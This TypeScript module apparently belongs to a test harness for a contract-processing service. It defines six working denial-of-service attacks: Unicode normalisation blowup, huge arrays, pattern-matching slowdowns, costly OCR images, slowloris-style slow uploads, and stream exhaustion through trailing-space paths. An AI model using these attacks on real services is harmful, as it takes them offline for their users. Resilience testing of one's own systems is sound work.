/**
 * What was found to stop the service, each from an address of its own, bounded in size and pace,
 * until it is stopped.
 */
import { setTimeout as wait } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import type { Client } from './client.ts';
import { noisePicture } from './noise-picture.ts';

interface Attacker {
  readonly client: Client;
  /** Of a signed-in user. */
  readonly cookie: string;
  readonly signal: AbortSignal;
}

export type Attack = (attacker: Attacker) => Promise<void>;

/** Normalising them takes time that grows with the square of their number. */
const combiningMarks: Attack = (attacker) => submitting(attacker, () => contract([{ text: `a${'\u0327\u0301'.repeat(100_000)}` }]));

/** Each element is a fault to be found and listed. */
const hugeArrays: Attack = (attacker) => submitting(attacker, () => contract(Array.from({ length: 500_000 }, () => 0)));

/**
 * Words that one pattern of the AI server takes for the beginning of something, again and again.
 */
const spaces: Attack = (attacker) => submitting(attacker, (count) => contract([{ text: `제1조 (목적) ${count}${' '.repeat(30_000)}x` }]));

/**
 * Pictures that take ten seconds of a processor to find no letter in: one person's must not take
 * all that there is.
 */
const costlyPictures: Attack = (attacker) => submitting(attacker, scannedContract, 10_000);

function scannedContract(): FormData {
  const form = new FormData();
  for (let page = 1; page <= 3; page++) form.append('pages', new File([noisePicture(2_000)], `${page}.png`, { type: 'image/png' }));
  return form;
}

const connections = 30;
const chunk = Buffer.alloc(256 * 1024, 'x');

/**
 * Slow bodies of unauthenticated clients: stored before the session is checked, they would fill a
 * disk.
 */
const slowBodies: Attack = async ({ client, signal }) => {
  const one = async () => {
    while (!signal.aborted) {
      const headers = { 'content-length': '20000000', 'content-type': 'multipart/form-data; boundary=x' };
      const socket = await client.open('POST', '/api/contracts', headers).catch(() => undefined);
      while (socket?.writable && !signal.aborted) {
        socket.write(chunk);
        await wait(500, undefined, { signal }).catch(() => undefined);
      }
      socket?.destroy();
      await wait(200, undefined, { signal }).catch(() => undefined);
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
};

const streams = 200;

/** Streams of one contract under names that only MySQL takes for its own. */
const trailingSpaces: Attack = async ({ client, cookie, signal }) => {
  const { body } = await client.ask('POST', '/api/contracts', { cookie, body: contract([{ text: '제1조 (목적) 열린 줄.' }]) });
  const { id = '' } = JSON.parse(body) as { id?: string };
  const open: TLSSocket[] = [];
  for (let count = 1; count <= streams && !signal.aborted; count++) {
    const path = `/api/contracts/${id}${'%20'.repeat(count % 20)}/events`;
    const socket = await client.open('GET', path, { cookie }).catch(() => undefined);
    if (socket) open.push(socket);
  }
  await ended(signal);
  for (const socket of open) socket.destroy();
};

export const attacks = { combiningMarks, hugeArrays, spaces, costlyPictures, slowBodies, trailingSpaces } satisfies Record<string, Attack>;

/**
 * One after the other, as fast as they are answered but at most one in this time. Whether it is
 * taken is the service's affair.
 */
async function submitting({ client, cookie, signal }: Attacker, body: (count: number) => unknown, everyMs = 1_500): Promise<void> {
  for (let count = 0; !signal.aborted; count++) {
    await client.ask('POST', '/api/contracts', { cookie, body: body(count) }).catch(() => undefined);
    await wait(everyMs, undefined, { signal }).catch(() => undefined);
  }
}

function contract(pages: unknown) {
  return { pages, locale: 'ko' };
}

function ended(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => (signal.aborted ? resolve() : signal.addEventListener('abort', () => resolve(), { once: true })));
}
